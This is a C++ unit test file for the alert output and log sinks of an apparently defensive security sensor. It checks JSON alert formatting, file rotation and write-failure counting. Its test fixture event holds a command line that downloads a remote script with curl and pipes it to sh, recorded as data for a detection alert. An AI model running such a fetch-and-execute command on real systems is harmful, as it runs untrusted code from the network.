#include "sensor/sinks.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>

namespace vigil::sensor {
namespace {

namespace fs = std::filesystem;

class TempDir {
 public:
  TempDir() {
    std::string tmpl = testing::TempDir() + "/vigil_sinks_XXXXXX";
    path_ = ::mkdtemp(tmpl.data());
  }
  ~TempDir() { fs::remove_all(path_); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

std::string Slurp(const std::string& path) {
  std::ifstream f(path);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

content::Rule TestRule() {
  content::Rule rule;
  rule.id = "6a4e0d1c-0000-4000-8000-000000000001";
  rule.title = "Shell \"spawned\" by\tweb server \\ \x01 caf\xc3\xa9 bad\xff";
  rule.level = content::Level::kHigh;
  rule.tags = {"attack.execution", "attack.t1059.004"};
  return rule;
}

OwnedEvent ExecEvent(const Schema& schema, uint64_t time_ns) {
  EventTypeId type = *schema.FindEventType("process_creation");
  OwnedEvent ev;
  ev.Reset(type, schema.event_type(type).fields.size(), time_ns);
  ev.SetText(*schema.FindField(type, "Image"), "/usr/bin/curl");
  ev.SetText(*schema.FindField(type, "CommandLine"), "curl -s \"http://x/a.sh\"\n| sh");
  ev.SetNumber(*schema.FindField(type, "ProcessId"), 4242);
  return ev;
}

TEST(AlertLine, IsOneValidJsonLineWithEveryKey) {
  const Schema& schema = Schema::Builtin();
  std::string line;
  // 2026-11-24T13:45:10.123456789Z
  OwnedEvent ev = ExecEvent(schema, 1795527910'123456789ull);
  AppendAlertLine(line, {.host = "web-1\n", .content_version = 1764000000}, TestRule(), ev, schema);
  ASSERT_FALSE(line.empty());
  EXPECT_EQ(line.back(), '\n');
  EXPECT_EQ(line.find('\n'), line.size() - 1) << line;
  nlohmann::json j = nlohmann::json::parse(line);  // throws (fails the test) if invalid
  EXPECT_EQ(j["time"], "2026-11-24T13:45:10.123456Z");
  EXPECT_EQ(j["host"], "web-1\n");
  EXPECT_EQ(j["content_version"], 1764000000);
  EXPECT_EQ(j["rule_id"], "6a4e0d1c-0000-4000-8000-000000000001");
  EXPECT_EQ(j["rule_title"], "Shell \"spawned\" by\tweb server \\ \x01 caf\xc3\xa9 bad\xef\xbf\xbd");
  EXPECT_EQ(j["level"], "high");
  EXPECT_EQ(j["tags"], nlohmann::json::array({"attack.execution", "attack.t1059.004"}));
  EXPECT_EQ(j["event"]["event"], "process_creation");
  EXPECT_EQ(j["event"]["Image"], "/usr/bin/curl");
  EXPECT_EQ(j["event"]["CommandLine"], "curl -s \"http://x/a.sh\"\n| sh");
  EXPECT_EQ(j["event"]["ProcessId"], 4242);
  // Keys in the documented order (docs/alerts.md).
  EXPECT_TRUE(line.starts_with("{\"time\":\"2026-11-24T13:45:10.123456Z\",\"host\":\"web-1\\n\","
                               "\"content_version\":1764000000,\"rule_id\":"))
      << line;
}

TEST(AlertLine, TimeEdgesAndEmptyTags) {
  const Schema& schema = Schema::Builtin();
  content::Rule rule = TestRule();
  rule.tags.clear();
  for (auto [ns, want] : std::vector<std::pair<uint64_t, std::string>>{
           {0, "1970-01-01T00:00:00.000000Z"},
           {999, "1970-01-01T00:00:00.000000Z"},
           {1'000'000'000ull * 951782400 + 1000, "2000-02-29T00:00:00.000001Z"}}) {
    std::string line;
    AppendAlertLine(line, {.host = "h"}, rule, ExecEvent(schema, ns), schema);
    nlohmann::json j = nlohmann::json::parse(line);
    EXPECT_EQ(j["time"], want);
    EXPECT_TRUE(j["tags"].is_array() && j["tags"].empty());
  }
}


// A block: the rule says "action":"block", the context "decision":"denied",
// in that order before the event; an ordinary alert has neither key.
TEST(AlertLine, BlockCarriesActionAndDecision) {
  const Schema& schema = Schema::Builtin();
  content::Rule rule = TestRule();
  rule.block = true;
  std::string line;
  AppendAlertLine(line, {.host = "h", .content_version = 3, .decision = "denied"}, rule, ExecEvent(schema, 1), schema);
  nlohmann::json j = nlohmann::json::parse(line);
  EXPECT_EQ(j["action"], "block");
  EXPECT_EQ(j["decision"], "denied");
  EXPECT_NE(line.find("\"tags\":[\"attack.execution\",\"attack.t1059.004\"],\"action\":\"block\",\"decision\":\"denied\","
                      "\"event\":{"),
            std::string::npos)
      << line;
  std::string plain;
  AppendAlertLine(plain, {.host = "h"}, TestRule(), ExecEvent(schema, 1), schema);
  j = nlohmann::json::parse(plain);
  EXPECT_FALSE(j.contains("action"));
  EXPECT_FALSE(j.contains("decision"));
}
// Every control byte and every invalid UTF-8 shape still yields valid JSON.
TEST(AlertLine, AnyBytesInStringsStayValidJson) {
  const Schema& schema = Schema::Builtin();
  content::Rule rule = TestRule();
  std::string all;
  for (int c = 0; c < 256; ++c) all += static_cast<char>(c);
  rule.title = all + "\xe0\x80\x80" + "\xed\xa0\x80" + "\xf4\x90\x80\x80" + "\xc3";
  std::string line;
  AppendAlertLine(line, {.host = all}, rule, ExecEvent(schema, 1), schema);
  nlohmann::json j = nlohmann::json::parse(line);
  std::string title = j["rule_title"];
  EXPECT_EQ(title.substr(0, 128), all.substr(0, 128));
}

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> out;
  std::istringstream in(text);
  for (std::string l; std::getline(in, l);) out.push_back(l);
  return out;
}

TEST(JsonlFileSink, RotatesKeepsAndNeverLosesALine) {
  TempDir dir;
  std::string path = dir.path() + "/alerts.jsonl";
  constexpr uint64_t kMax = 100;
  auto sink = JsonlFileSink::Open({.path = path, .max_bytes = kMax, .keep = 3});
  ASSERT_TRUE(sink) << sink.error().ToString();
  EXPECT_EQ((*sink)->name(), "jsonl");
  // Lines of varying size; with keep = 3 only the newest ones survive, so
  // write few enough that nothing is dropped, then check that exactly.
  std::vector<std::string> written;
  for (int i = 0; i < 12; ++i) {
    std::string line = fmt::format("{{\"n\":{},\"pad\":\"{}\"}}\n", i, std::string(i % 4 * 7, 'x'));
    (*sink)->Write(line);
    written.push_back(line.substr(0, line.size() - 1));
  }
  (*sink)->Flush();
  SinkStats st = (*sink)->stats();
  EXPECT_EQ(st.written, 12u);
  EXPECT_EQ(st.failed, 0u);
  EXPECT_GT(st.rotations, 0u);

  std::vector<std::string> files;
  for (const auto& e : fs::directory_iterator(dir.path())) files.push_back(e.path().filename());
  std::sort(files.begin(), files.end());
  EXPECT_EQ(files, (std::vector<std::string>{"alerts.jsonl", "alerts.jsonl.1", "alerts.jsonl.2",
                                             "alerts.jsonl.3"}));
  // Oldest first: .3, .2, .1, then the live file.
  std::vector<std::string> seen;
  for (const char* suffix : {".3", ".2", ".1", ""}) {
    std::string text = Slurp(path + suffix);
    EXPECT_LE(text.size(), kMax) << suffix;
    EXPECT_EQ(text.back(), '\n');
    for (auto& l : Lines(text)) seen.push_back(l);
  }
  // The surviving lines are the newest ones, each exactly once, in order.
  ASSERT_LE(seen.size(), written.size());
  std::vector<std::string> tail(written.end() - static_cast<long>(seen.size()), written.end());
  EXPECT_EQ(seen, tail);
}

TEST(JsonlFileSink, EveryLineExactlyOnceWhenKeepIsLargeEnough) {
  TempDir dir;
  std::string path = dir.path() + "/a.jsonl";
  auto sink = JsonlFileSink::Open({.path = path, .max_bytes = 64, .keep = 100});
  ASSERT_TRUE(sink);
  std::vector<std::string> written;
  for (int i = 0; i < 150; ++i) {
    std::string line = fmt::format("{{\"n\":{}}}\n", i);
    if (i == 70) line = "{\"big\":\"" + std::string(200, 'b') + "\"}\n";  // larger than max_bytes on its own
    (*sink)->Write(line);
    written.push_back(line.substr(0, line.size() - 1));
  }
  SinkStats st = (*sink)->stats();
  EXPECT_EQ(st.written, 150u);
  std::map<std::string, int> count;
  size_t files = 0;
  for (const auto& e : fs::directory_iterator(dir.path())) {
    ++files;
    std::string text = Slurp(e.path());
    std::vector<std::string> lines = Lines(text);
    if (text.size() > 64) {
      EXPECT_EQ(lines.size(), 1u) << "only a single oversized line may exceed max_bytes: " << e.path();
    }
    for (auto& l : lines) ++count[l];
  }
  EXPECT_EQ(files, st.rotations + 1);
  ASSERT_LE(files, 101u);
  // 150 lines of <= 10 bytes, 6 per file: fewer than 100 rotations, so all survive.
  for (const std::string& l : written) EXPECT_EQ(count[l], 1) << l;
  EXPECT_EQ(count.size(), written.size());
}

TEST(JsonlFileSink, AppendsToAnExistingFileAndCountsItsSize) {
  TempDir dir;
  std::string path = dir.path() + "/a.jsonl";
  {
    std::ofstream f(path);
    f << std::string(90, 'x') << "\n";
  }
  auto sink = JsonlFileSink::Open({.path = path, .max_bytes = 100, .keep = 1});
  ASSERT_TRUE(sink);
  (*sink)->Write("{\"a\":1234567}\n");  // 91 + 14 > 100: rotates first
  EXPECT_EQ((*sink)->stats().rotations, 1u);
  EXPECT_EQ(Slurp(path), "{\"a\":1234567}\n");
  EXPECT_EQ(Slurp(path + ".1"), std::string(90, 'x') + "\n");
  struct stat st {};
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0640u);
}

TEST(JsonlFileSink, WriteFailuresAreCountedAndTheSinkKeepsGoing) {
  TempDir dir;
  std::string path = dir.path() + "/full.jsonl";
  ASSERT_EQ(::symlink("/dev/full", path.c_str()), 0);
  auto sink = JsonlFileSink::Open({.path = path, .max_bytes = 1 << 20, .keep = 2});
  ASSERT_TRUE(sink) << sink.error().ToString();
  for (int i = 0; i < 5; ++i) (*sink)->Write("{\"a\":1}\n");
  SinkStats st = (*sink)->stats();
  EXPECT_EQ(st.written, 0u);
  EXPECT_EQ(st.failed, 5u);
}

TEST(JsonlFileSink, RotationThatCannotRenameKeepsAppending) {
  TempDir dir;
  std::string path = dir.path() + "/a.jsonl";
  auto sink = JsonlFileSink::Open({.path = path, .max_bytes = 20, .keep = 2});
  ASSERT_TRUE(sink);
  (*sink)->Write("{\"n\":1,\"xxxxxxxx\":1}\n");
  // Directories in the way (path.1 empty, path.2 not): every rename of the
  // chain fails, and the sink must keep appending without losing a line.
  ASSERT_EQ(::mkdir((path + ".1").c_str(), 0755), 0);
  ASSERT_EQ(::mkdir((path + ".2").c_str(), 0755), 0);
  ASSERT_EQ(::mkdir((path + ".2/keep").c_str(), 0755), 0);
  (*sink)->Write("{\"n\":2}\n");
  (*sink)->Write("{\"n\":3}\n");
  SinkStats st = (*sink)->stats();
  EXPECT_EQ(st.written, 3u);
  EXPECT_EQ(st.failed, 0u);
  EXPECT_EQ(st.rotations, 0u);
  EXPECT_EQ(Slurp(path), "{\"n\":1,\"xxxxxxxx\":1}\n{\"n\":2}\n{\"n\":3}\n");
}

TEST(JsonlFileSink, OpenErrors) {
  TempDir dir;
  auto on_dir = JsonlFileSink::Open({.path = dir.path()});
  ASSERT_FALSE(on_dir);
  EXPECT_EQ(on_dir.error().code(), Code::kIo);
  auto missing_dir = JsonlFileSink::Open({.path = dir.path() + "/no/such/dir/a.jsonl"});
  ASSERT_FALSE(missing_dir);
  EXPECT_EQ(missing_dir.error().code(), Code::kIo);
  EXPECT_EQ(JsonlFileSink::Open({.path = ""}).error().code(), Code::kInvalidArgument);
  EXPECT_EQ(JsonlFileSink::Open({.path = dir.path() + "/a", .keep = 0}).error().code(), Code::kInvalidArgument);
  EXPECT_EQ(JsonlFileSink::Open({.path = dir.path() + "/a", .keep = 101}).error().code(), Code::kInvalidArgument);
  EXPECT_EQ(JsonlFileSink::Open({.path = dir.path() + "/a", .max_bytes = 0}).error().code(),
            Code::kInvalidArgument);
}

TEST(StdoutSink, CountsWrites) {
  StdoutSink sink;
  EXPECT_EQ(sink.name(), "stdout");
  sink.Write("{\"stdout_sink_test\":1}\n");
  sink.Flush();
  EXPECT_EQ(sink.stats().written, 1u);
  EXPECT_EQ(sink.stats().failed, 0u);
}

TEST(StdoutSink, CountsFailures) {
  // Point stdout at /dev/full for the duration of the test.
  std::fflush(stdout);
  int saved = ::dup(STDOUT_FILENO);
  ASSERT_GE(saved, 0);
  ASSERT_NE(std::freopen("/dev/full", "w", stdout), nullptr);
  StdoutSink sink;
  sink.Write("{\"a\":1}\n");
  sink.Write("{\"a\":2}\n");
  SinkStats st = sink.stats();
  ASSERT_EQ(::dup2(saved, STDOUT_FILENO), STDOUT_FILENO);
  ::close(saved);
  std::clearerr(stdout);
  EXPECT_EQ(st.written, 0u);
  EXPECT_EQ(st.failed, 2u);
}

TEST(SyslogSink, SmokeTestWithoutADaemon) {
  SyslogSink sink;
  EXPECT_EQ(sink.name(), "syslog");
  sink.Write("{\"syslog_sink_test\":1}\n");
  sink.Write(std::string(3 * kMaxSyslogLineBytes, 'x') + "\n");
  sink.Write("");
  sink.Flush();
  EXPECT_EQ(sink.stats().written, 3u);
  EXPECT_EQ(sink.stats().failed, 0u);
}

}  // namespace
}  // namespace vigil::sensor
